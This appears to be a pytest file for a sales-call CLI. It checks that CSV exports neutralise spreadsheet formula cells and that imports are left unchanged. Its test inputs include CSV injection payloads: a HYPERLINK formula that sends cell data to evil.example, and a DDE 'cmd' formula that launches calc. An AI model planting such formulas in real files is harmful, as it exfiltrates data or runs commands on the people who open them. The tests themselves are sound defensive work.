"""Exports neutralise formula cells (OWASP's CSV injection advice); imports are not altered.

`callworthy export` wrote `=HYPERLINK(...)`, `+1+1` and `@SUM(1)` as typed: opened in
a spreadsheet they ran. Every cell of the CSV is now quoted, and one that starts like
a formula (= + - @, tab, carriage return, line feed, NUL) gets a leading ', so it
shows as text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from callworthy.cli import main
from callworthy.crm import formula_safe, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for your report")'
ISSUE_CELLS = (HYPERLINK, "+1+1", "@SUM(1)")
MORE_CELLS = ("-2+3", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "+17043331112")
SAFE_CELLS = ("Jane Doe", "Hi = hello", "", "'=already text", " =1+1", "5 ways", "#1 fan")


@pytest.mark.parametrize("cell", ISSUE_CELLS + MORE_CELLS)
def test_a_cell_starting_like_a_formula_becomes_text(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", [*SAFE_CELLS, 42, None])
def test_other_cells_and_numbers_are_left_as_they_are(cell: object) -> None:
    assert formula_safe(cell) == cell


def test_every_cell_is_quoted_so_no_other_separator_can_start_a_formula() -> None:
    # In a ";" locale an unquoted `a;=1+1` would split into a cell that starts with "=".
    text = write_csv([{"a": "x;=1+1", "b": 7}], ("a", "b"))
    assert text == '"a","b"\n"x;=1+1","7"\n'


def run(db: str, *args: str) -> Result:
    """Invoke a command as rep alice on the database file."""
    return CliRunner().invoke(main, [*args, "--db", db, "--rep", "alice"])


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output
    return result


def test_export_writes_the_issues_cells_as_text_and_import_keeps_what_it_reads(
    tmp_path: Path,
) -> None:
    db = str(tmp_path / "x.sqlite3")
    ok(run(db, "prospect", "add", HYPERLINK, "--company", "+1+1", "--phone", "704-333-1112"))
    script = "@SUM(1) Jane, three ways to fill your chairs; call 704-333-1112."
    ok(run(db, "log", "#1", "--strategy", "value_tip", "--script", script))
    ok(run(db, "callback", "#1", "--notes", "-2+3 wants a meeting"))
    exported = ok(run(db, "export")).output
    rows = list(csv.DictReader(io.StringIO(exported)))
    voicemail, callback = rows
    assert voicemail["prospect"] == "'" + HYPERLINK and voicemail["company"] == "'+1+1"
    assert voicemail["script"] == "'" + script and voicemail["phone"] == "'+17043331112"
    assert callback["notes"] == "'-2+3 wants a meeting" and voicemail["score"].isdigit()
    assert all(line.startswith('"') for line in exported.splitlines())
    # What the export wrote imports back; an import stores what the file says.
    path = tmp_path / "calls.csv"
    path.write_text(exported, encoding="utf-8")
    other = str(tmp_path / "other.sqlite3")
    ok(run(other, "import", str(path)))
    listed = json.loads(ok(run(other, "prospect", "list", "--format", "json")).output)
    assert [p["name"] for p in listed] == ["'" + HYPERLINK]
    assert listed[0]["phone"] == "+17043331112"
    raw = tmp_path / "raw.csv"
    raw.write_text("kind,at,prospect,phone\nvoicemail,2024-03-04T09:00:00Z,=1+1,\n")
    ok(run(other, "import", str(raw)))
    names = [
        p["name"] for p in json.loads(run(other, "prospect", "list", "--format", "json").output)
    ]
    assert "=1+1" in names  # imports are not altered
